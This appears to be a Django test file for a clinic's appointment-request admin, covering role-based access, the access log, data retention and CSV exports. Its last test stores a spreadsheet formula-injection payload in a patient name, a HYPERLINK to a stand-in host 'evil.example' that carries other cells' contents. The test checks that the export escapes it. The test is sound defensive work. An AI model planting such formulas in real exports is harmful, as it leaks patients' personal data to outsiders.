"""Requests in the admin: who sees them, what they may change, the access log and retention."""

import csv
import datetime
import io

import pytest
from bs4 import BeautifulSoup

from django.core.management import call_command
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone

from appointments.models import AppointmentAccessLog, AppointmentRequest
from home.roles import EDITORS, FRONT_DESK, SITE_ADMINS
from tests.accounts import make_user, sign_in


pytestmark = pytest.mark.django_db


@pytest.fixture
def stored_request():
    return AppointmentRequest.objects.create(
        name="Pat Example",
        phone="(312) 555-0190",
        patient_type="returning",
        preferred_days=["mon"],
        consent_at=timezone.now(),
    )


def test_only_the_front_desk_and_site_admins_see_requests(client, stored_request):
    index = reverse("appointment_requests:index")
    editor = make_user("ed", EDITORS)
    sign_in(client, editor)
    assert client.get(index).status_code in (302, 403)
    assert "Appointments" not in client.get(reverse("wagtailadmin_home")).content.decode()
    assert client.get(
        reverse("appointment_requests:edit", args=[stored_request.pk])
    ).status_code in (302, 403)

    for user in [make_user("desk", FRONT_DESK), make_user("boss", SITE_ADMINS)]:
        sign_in(client, user)
        response = client.get(index)
        assert response.status_code == 200
        assert "Pat Example" in response.content.decode()
    assert not AppointmentAccessLog.objects.filter(username="ed").exists()


def test_the_front_desk_marks_a_request_booked_and_cannot_add_one(
    client, front_desk, stored_request
):
    sign_in(client, front_desk)
    edit = reverse("appointment_requests:edit", args=[stored_request.pk])
    page = client.get(edit).content.decode()
    assert "Pat Example" in page and "(312) 555-0190" in page  # read-only details
    response = client.post(edit, {"status": "booked"})
    assert response.status_code == 302
    stored_request.refresh_from_db()
    assert stored_request.status == "booked"
    assert stored_request.name == "Pat Example"
    assert client.get(reverse("appointment_requests:add")).status_code in (302, 403)


def test_every_look_at_a_request_is_in_the_access_log(client, front_desk, stored_request):
    sign_in(client, front_desk)
    client.get(reverse("appointment_requests:inspect", args=[stored_request.pk]))
    client.get(reverse("appointment_requests:index"))
    export = client.get(reverse("appointment_requests:index") + "?export=csv")
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert rows[1][rows[0].index("Name")] == "Pat Example"

    log = AppointmentAccessLog.objects.order_by("pk")
    assert [(entry.username, entry.action, entry.request_number) for entry in log] == [
        ("desk", "view", stored_request.pk),
        ("desk", "list", stored_request.pk),
        ("desk", "export", stored_request.pk),
    ]
    assert all(entry.at <= timezone.now() for entry in log)

    # Site admins read the log; nobody edits it.
    sign_in(client, make_user("boss", SITE_ADMINS))
    listing = client.get(reverse("appointment_access_log:index"))
    assert listing.status_code == 200 and "desk" in listing.content.decode()
    entry = log.first()
    assert client.get(reverse("appointment_access_log:edit", args=[entry.pk])).status_code in (
        302,
        403,
    )
    assert client.get(reverse("appointment_access_log:delete", args=[entry.pk])).status_code in (
        302,
        403,
    )
    sign_in(client, front_desk)
    assert client.get(reverse("appointment_access_log:index")).status_code in (302, 403)


def test_a_status_change_is_in_the_access_log_with_the_new_status(
    client, front_desk, stored_request
):
    sign_in(client, front_desk)
    edit = reverse("appointment_requests:edit", args=[stored_request.pk])
    client.get(edit)
    assert client.post(edit, {"status": "contacted"}).status_code == 302

    log = AppointmentAccessLog.objects.order_by("pk")
    assert [(entry.username, entry.action, entry.request_number) for entry in log] == [
        ("desk", "view", stored_request.pk),
        ("desk", "status", stored_request.pk),
    ]

    sign_in(client, make_user("boss", SITE_ADMINS))
    listing = BeautifulSoup(
        client.get(reverse("appointment_access_log:index")).content, "html.parser"
    )
    rows = [" ".join(row.get_text(" ").split()) for row in listing.select("tbody tr")]
    assert "Status changed to Contacted" in rows[0] and "Opened" in rows[1]
    export = client.get(reverse("appointment_access_log:index") + "?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert [row[rows[0].index("Action")] for row in rows[1:]] == [
        "Status changed to Contacted",
        "Opened",
    ]


def test_the_retention_job_deletes_only_old_requests(stored_request):
    old = AppointmentRequest.objects.create(
        name="Old", phone="3125550101", patient_type="new", consent_at=timezone.now()
    )
    AppointmentRequest.objects.filter(pk=old.pk).update(
        created_at=timezone.now() - datetime.timedelta(days=91)
    )
    borderline = AppointmentRequest.objects.create(
        name="Recent", phone="3125550102", patient_type="new", consent_at=timezone.now()
    )
    AppointmentRequest.objects.filter(pk=borderline.pk).update(
        created_at=timezone.now() - datetime.timedelta(days=89)
    )
    desk = make_user("desk", FRONT_DESK)
    AppointmentAccessLog.record(desk, "view", [old])

    out = io.StringIO()
    call_command("delete_old_appointment_requests", stdout=out)
    assert "90 days: 1 deleted" in out.getvalue()
    assert set(AppointmentRequest.objects.values_list("name", flat=True)) == {
        "Pat Example",
        "Recent",
    }
    entry = AppointmentAccessLog.objects.get()
    assert entry.request is None and entry.request_number == old.pk  # the log outlives it


@override_settings(APPOINTMENT_RETENTION_DAYS=30)
def test_the_retention_period_comes_from_settings(stored_request):
    AppointmentRequest.objects.filter(pk=stored_request.pk).update(
        created_at=timezone.now() - datetime.timedelta(days=31)
    )
    call_command("delete_old_appointment_requests", stdout=io.StringIO())
    assert not AppointmentRequest.objects.exists()


def test_exports_say_what_the_admin_shows_in_the_clinics_time(client, front_desk, stored_request):
    received = datetime.datetime(2026, 7, 14, 13, 5, 42, 123456, tzinfo=datetime.UTC)
    AppointmentRequest.objects.filter(pk=stored_request.pk).update(
        created_at=received, status="contacted"
    )
    sign_in(client, front_desk)
    export = client.get(reverse("appointment_requests:index") + "?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Status"] == "Contacted"
    assert row["New or returning"] == "Returning patient"
    assert row["Days that suit"] == "Monday"
    # 13:05 UTC is 9:05 in New York in July (daylight saving time), to the minute.
    assert row["Received"] == "2026-07-14 09:05"

    sign_in(client, make_user("boss", SITE_ADMINS))  # site admins read the access log
    log = client.get(reverse("appointment_access_log:index") + "?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(log.streaming_content).decode())))
    assert rows[0] == ["At", "Username", "Action", "Request number"]
    assert rows[1][2] in {"Listed", "Exported"}
    assert len(rows[1][0]) == len("2026-07-14 09:05")


def test_a_patients_words_never_become_a_formula_in_the_csv_export(
    client, front_desk, stored_request
):
    attack = '=HYPERLINK("https://evil.example/?d="&C2&D2,"Call back")'
    AppointmentRequest.objects.filter(pk=stored_request.pk).update(name=attack, phone="+1 555 0100")
    sign_in(client, front_desk)
    export = client.get(reverse("appointment_requests:index") + "?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Name"] == "'" + attack  # text, shown as typed, never run
    assert row["Phone"] == "'+1 555 0100"
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
